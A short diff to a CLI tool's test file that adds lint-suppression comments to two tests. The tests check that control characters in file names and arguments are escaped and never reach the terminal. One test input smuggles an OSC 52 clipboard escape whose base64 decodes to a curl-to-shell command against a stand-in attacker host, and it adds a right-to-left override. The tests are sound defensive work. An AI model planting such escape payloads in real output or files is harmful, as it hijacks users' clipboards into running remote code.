@@ -217,6 +217,7 @@ describe('podmortem analyze: filters, colour, help and messages', () => {
     const name = join(dir, 'bundle\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u202e.tar.gz');
     const result = await runCli(['analyze', name]);
     expect(result.code).toBe(2);
+    // eslint-disable-next-line no-control-regex -- the test is that no control character reaches the terminal
     expect(result.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
     expect(result.stderr).toContain('bundle\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\u202e.tar.gz');
   });
@@ -237,6 +238,7 @@ describe('podmortem: usage errors', () => {
   it('shows what was typed with its control characters made visible', async () => {
     const result = await runCli(['analyze', '--\u001b]52;c;aGk=\u0007', sample('shop-prod-eu')]);
     expect(result.code).toBe(2);
+    // eslint-disable-next-line no-control-regex -- the test is that no control character reaches the terminal
     expect(result.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
     expect(result.stderr).toContain('\\x1b]52;c;aGk=\\x07');
   });
